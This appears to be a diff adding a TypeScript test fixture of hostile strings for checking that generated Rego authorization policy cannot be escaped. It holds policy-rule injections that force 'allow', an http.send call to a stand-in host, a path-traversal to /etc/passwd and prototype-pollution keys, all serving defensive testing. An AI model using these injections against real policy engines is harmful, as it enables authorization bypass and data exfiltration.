@@ -1,0 +1,57 @@
+// A hundred and more texts that try to get out of a string, a line or a comment of a program that is written around them.
+import { spoofStrings } from './spoof-strings.ts'
+
+const pieces = [
+  '"',
+  '""',
+  '\\"',
+  '\\\\"',
+  '\\',
+  '\n',
+  '\r\n',
+  '\u0085',
+  '\u2028',
+  '\u2029',
+  '`',
+  '}',
+  '{',
+  '})',
+  '# ',
+  '\u0000',
+  '\t',
+  '$(1)',
+  '{{1}}',
+  '\u201d',
+  '\uff02',
+  '\\u0022',
+  '\\x22',
+  '\\n',
+]
+const payloads = [
+  'allow contains "x" if true',
+  '} allow contains "x" if { true',
+  'default allow := true',
+  'package behavry.authz',
+]
+
+export const hostileStrings: readonly string[] = [
+  ...pieces,
+  ...pieces.flatMap((piece) => payloads.map((payload) => `a${piece}${payload}${piece}b`)),
+  '" } deny contains "x" if { true # ',
+  '"\n}\n\nallow contains "all" if true\n#',
+  '" | true | "',
+  '"; http.send({"method": "get", "url": "http://evil.example"}); "',
+  '# METADATA\n# scope: document\n# entrypoint: true',
+  '\n# METADATA\n',
+  'import data.behavry.tenants',
+  'input.request.tool_name',
+  '__proto__',
+  'constructor',
+  '../../../etc/passwd',
+  '%22%7D',
+  '"'.repeat(1000),
+  '\\'.repeat(999),
+  '\n'.repeat(100),
+  '}'.repeat(1000),
+  ...Object.values(spoofStrings),
+].filter((text) => text !== '')
